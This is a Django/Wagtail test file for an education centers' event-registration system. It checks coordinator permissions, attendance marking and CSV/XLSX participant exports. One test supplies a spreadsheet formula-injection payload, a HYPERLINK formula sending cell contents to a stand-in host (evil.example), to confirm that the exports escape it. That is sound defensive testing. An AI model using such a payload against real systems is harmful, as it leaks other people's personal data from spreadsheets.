import csv
import datetime
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from django.utils import timezone
from wagtail.models import GroupPagePermission

from centers.events.registration import register_participant
from centers.models import Registration

from .events_helpers import center, make_event

pytestmark = pytest.mark.django_db


def coordinator_of(center_slug, username):
    """A user standing for the center's coordinators: admin access and page 'change' on that center only."""
    group = Group.objects.create(name=f"Координаторы: {center_slug} ({username})")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    GroupPagePermission.objects.create(
        group=group, page=center(center_slug), permission=Permission.objects.get(codename="change_page")
    )
    user = get_user_model().objects.create_user(username, password="x-password-123")
    user.groups.add(group)
    return user


@pytest.fixture
def event():
    event = make_event(capacity=2, co_organizers=[center("stem-poisk")])
    occurrence = event.occurrences.get()
    for number in range(3):
        register_participant(
            occurrence.pk,
            full_name=f"Участник Номер {number}",
            position="учитель",
            organization="СОШ № 4",
            email=f"p{number}@example.ru",
            phone="+7 900 000",
        )
    return event


def urls(event):
    return [
        reverse(name, args=[event.pk])
        for name in (
            "centers_events:participants",
            "centers_events:participants_csv",
            "centers_events:participants_xlsx",
        )
    ]


@pytest.mark.parametrize("center_slug", ["literacy-lyceum1", "stem-poisk"])
def test_coordinators_of_the_host_and_of_a_co_organizer_see_and_export_participants(
    client, event, center_slug
):
    client.force_login(coordinator_of(center_slug, "coord"))
    listing, csv_url, xlsx_url = urls(event)
    html = client.get(listing).content.decode()
    assert "Участник Номер 0" in html and "p2@example.ru" in html
    rows = list(csv.reader(io.StringIO(client.get(csv_url).content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][1] == "Фамилия, имя, отчество"
    assert [row[1] for row in rows[1:]] == ["Участник Номер 0", "Участник Номер 1", "Участник Номер 2"]
    assert [row[6] for row in rows[1:]] == ["Подтверждена", "Подтверждена", "В листе ожидания"]
    workbook = openpyxl.load_workbook(io.BytesIO(client.get(xlsx_url).content))
    values = [row for row in workbook.active.iter_rows(values_only=True)]
    assert values[0][0] == event.title
    assert ("p1@example.ru" in values[-2]) and values[-1][7] == 1


def test_a_coordinator_of_another_center_gets_403_everywhere(client, event):
    client.force_login(coordinator_of("career-ds9", "stranger"))
    for url in urls(event):
        assert client.get(url).status_code == 403, url
    assert client.post(urls(event)[0], {"attended": []}).status_code == 403


def test_anonymous_visitors_are_sent_to_log_in(client, event):
    for url in urls(event):
        response = client.get(url)
        assert response.status_code == 302 and "/login/" in response["Location"]


def test_moderator_marks_attendance(client, event):
    admin = get_user_model().objects.get(username="admin")
    client.force_login(admin)
    confirmed = list(Registration.objects.filter(occurrence__event=event, status="confirmed"))
    response = client.post(urls(event)[0], {"attended": [str(confirmed[0].pk)]})
    assert response.status_code == 302
    marks = dict(Registration.objects.filter(occurrence__event=event).values_list("email", "attended"))
    assert marks == {"p0@example.ru": True, "p1@example.ru": False, "p2@example.ru": None}
    assert "присутствовали 1" in client.get(response["Location"]).content.decode()


def test_the_participants_button_shows_in_the_page_listing_for_its_editors_only(client, event):
    client.force_login(coordinator_of("literacy-lyceum1", "coord"))
    explorer = reverse("wagtailadmin_explore", args=[event.get_parent().pk])
    assert urls(event)[0] in client.get(explorer).content.decode()


def test_a_registrant_named_as_a_formula_arrives_as_text_in_both_exports(client, event):
    occurrence = event.occurrences.get()
    formula = '=HYPERLINK("http://evil.example/?d="&E4&E5&E6,"Подробнее")'
    register_participant(
        occurrence.pk,
        full_name=formula,
        position="@SUM(1+1)",
        organization="-2+3",
        email="attacker@example.ru",
        phone="+7 900 111",
    )
    client.force_login(coordinator_of("literacy-lyceum1", "coord"))
    _listing, csv_url, xlsx_url = urls(event)
    rows = list(csv.reader(io.StringIO(client.get(csv_url).content.decode("utf-8-sig")), delimiter=";"))
    assert rows[-1][1:4] == ["'" + formula, "'@SUM(1+1)", "'-2+3"]
    assert rows[-1][5] == "'+7 900 111"
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(xlsx_url).content)).active
    last = list(sheet.iter_rows())[-1]
    assert [cell.value for cell in last[1:4]] == [formula, "@SUM(1+1)", "-2+3"]
    assert last[5].value == "+7 900 111"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in last[1:4])


def test_the_xlsx_types_its_cells_dates_in_the_site_time_zone(client, event):
    occurrence = event.occurrences.get()
    moment = datetime.datetime(2026, 2, 3, 5, 15, tzinfo=datetime.UTC)
    Registration.objects.filter(occurrence=occurrence).update(created_at=moment)
    client.force_login(coordinator_of("literacy-lyceum1", "coord"))
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(urls(event)[2]).content)).active
    rows = list(sheet.iter_rows())
    assert rows[1][0].is_date
    assert rows[1][0].value == timezone.localtime(occurrence.start).replace(
        tzinfo=None, second=0, microsecond=0
    )
    first = rows[3]
    assert first[0].value == 1 and first[0].data_type == "n"
    assert first[5].value == "+7 900 000" and first[5].data_type == "s"
    assert first[8].is_date and first[8].number_format == "DD.MM.YYYY HH:MM"
    assert first[8].value == timezone.localtime(moment).replace(tzinfo=None)
    assert rows[-1][7].value == 1 and rows[-1][7].data_type == "n"
